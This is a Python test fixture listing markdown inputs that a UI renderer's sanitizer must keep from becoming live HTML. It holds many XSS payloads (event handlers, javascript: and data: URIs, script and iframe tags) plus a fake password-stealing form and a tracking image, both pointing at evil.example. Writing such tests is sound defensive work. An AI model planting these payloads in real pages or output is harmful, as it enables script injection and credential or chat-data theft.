"""Markdown edge cases that must never become live HTML (issue 12, finding 2): shared by the unit
tests of kimi_ui/ui/markdown.py and the browser test."""

PWN = "window.__pwned=1"
CORPUS = [
    # the payload: a code span opened by two backticks and closed by one
    '``<svg width=300 height=40><a href="javascript:window.__pwned=1"><text x=0 y=20>click</text></a></svg>`',
    f"`<img src=x onerror={PWN}>``",
    f"```\n<svg onload={PWN}>\n````",
    f"- item\n  ```\n  code\n  ```\n<img src=x onerror={PWN}>",
    f"<div>\n\n<img src=x onerror={PWN}>\n\n</div>",
    f"<script>{PWN}</script>",
    f"<details open ontoggle={PWN}><summary>x</summary></details>",
    f'<math><maction actiontype="statusline" xlink:href="javascript:{PWN}">m</maction></math>',
    f'<form action="https://evil.example/steal"><input name=password><button>Sign in</button></form>',
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">overlay</div>',
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f"&lt;img src=x onerror={PWN}&gt; and &#60;script&#62;{PWN}&#60;/script&#62;",
    f"[entity](&#106;avascript:{PWN}) [plain](javascript:{PWN}) [spaced]( javascript:{PWN} )",
    f"<javascript:{PWN}> [vb](vbscript:msgbox) [data](data:text/html,<script>{PWN}</script>)",
    "![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9fcHduZWQ9MT4=)",
    "![tracker](https://evil.example/leak.png?chat=secret)",
    f"$\\href{{javascript:{PWN}}}{{click}}$ and $$\\url{{javascript:{PWN}}}$$",
    f'$x$<img src=x onerror={PWN}>$y$ and \\(a" onmouseover="{PWN}\\)',
    f'[a](https://example.com/$) [b](https://example.com/onmouseover={PWN}) $ "',
    f"| a | <b onmouseover={PWN}>b</b> |\n|---|---|\n| `x` | <svg/onload={PWN}> |",
    f"<!-- <img src=x onerror={PWN}> -->",
    f"<a href='javascript:{PWN}'>html link</a> <svg><a xlink:href='javascript:{PWN}'>svg link</a></svg>",
]
NORMAL = ("**bold words**\n\n- first item\n- second item\n\nSome `inline code` and $x^2$ here.\n\n"
          "```python\nprint('hi')\n```\n\n| name | value |\n|---|---|\n| pi | 3.14 |\n\n"
          "A [safe link](https://example.com/docs).")
